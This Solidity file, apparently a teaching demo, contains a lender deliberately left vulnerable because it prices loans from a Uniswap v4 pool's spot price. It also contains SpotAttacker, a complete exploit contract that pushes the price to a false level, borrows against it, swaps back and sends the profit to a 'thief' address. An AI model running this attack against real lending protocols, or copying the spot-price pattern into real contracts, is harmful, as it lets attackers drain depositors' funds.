// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IPoolManager} from '@uniswap/v4-core/src/interfaces/IPoolManager.sol';
import {IUnlockCallback} from '@uniswap/v4-core/src/interfaces/callback/IUnlockCallback.sol';
import {FullMath} from '@uniswap/v4-core/src/libraries/FullMath.sol';
import {StateLibrary} from '@uniswap/v4-core/src/libraries/StateLibrary.sol';
import {TickMath} from '@uniswap/v4-core/src/libraries/TickMath.sol';
import {BalanceDelta} from '@uniswap/v4-core/src/types/BalanceDelta.sol';
import {PoolKey} from '@uniswap/v4-core/src/types/PoolKey.sol';
import {SwapParams} from '@uniswap/v4-core/src/types/PoolOperation.sol';

/// @notice Lends half of what ether is worth, by the price of a pool. Never deploy it.
contract SpotLender {
    using StateLibrary for IPoolManager;

    IPoolManager public immutable manager;
    PoolKey public key;

    constructor(IPoolManager manager_, PoolKey memory key_) {
        manager = manager_;
        key = key_;
    }

    // #region spot
    // demo-only: the caller sets this price by a swap, and lends itself all that is here.
    function borrow() external payable returns (uint256 lent) {
        (uint160 sqrtPriceX96,,,) = manager.getSlot0(key.toId());
        uint256 root = FullMath.mulDiv(msg.value, sqrtPriceX96, 1 << 96);
        uint256 worth = FullMath.mulDiv(root, sqrtPriceX96, 1 << 96);
        lent = worth / 2;
        key.currency1.transfer(msg.sender, lent);
    }
    // #endregion spot
}

/// @notice Makes a false price, borrows by it, and takes it back: all in one unlock.
contract SpotAttacker is IUnlockCallback {
    IPoolManager public immutable manager;

    constructor(IPoolManager manager_) {
        manager = manager_;
    }

    function attack(SpotLender lender, PoolKey calldata key, uint160 falsePriceX96)
        external
        payable
    {
        manager.unlock(abi.encode(lender, key, falsePriceX96, msg.sender));
    }

    /// @inheritdoc IUnlockCallback
    function unlockCallback(bytes calldata data) external returns (bytes memory) {
        require(msg.sender == address(manager), 'not PoolManager');
        (SpotLender lender, PoolKey memory key, uint160 falsePriceX96, address thief) =
            abi.decode(data, (SpotLender, PoolKey, uint160, address));

        // #region steps
        // Buys ether up to the false price, on credit.
        SwapParams memory push = SwapParams(false, -type(int128).max, falsePriceX96);
        BalanceDelta bought = manager.swap(key, push, '');
        uint256 lent = lender.borrow{value: address(this).balance}();
        // Sells the same ether again. The loss is two fees.
        SwapParams memory pull = SwapParams(true, -bought.amount0(), TickMath.MIN_SQRT_PRICE + 1);
        BalanceDelta sold = manager.swap(key, pull, '');

        uint256 loss = uint256(int256(-(bought.amount1() + sold.amount1())));
        manager.sync(key.currency1);
        key.currency1.transfer(address(manager), loss);
        manager.settle();
        key.currency1.transfer(thief, lent - loss);
        // #endregion steps
        return '';
    }
}
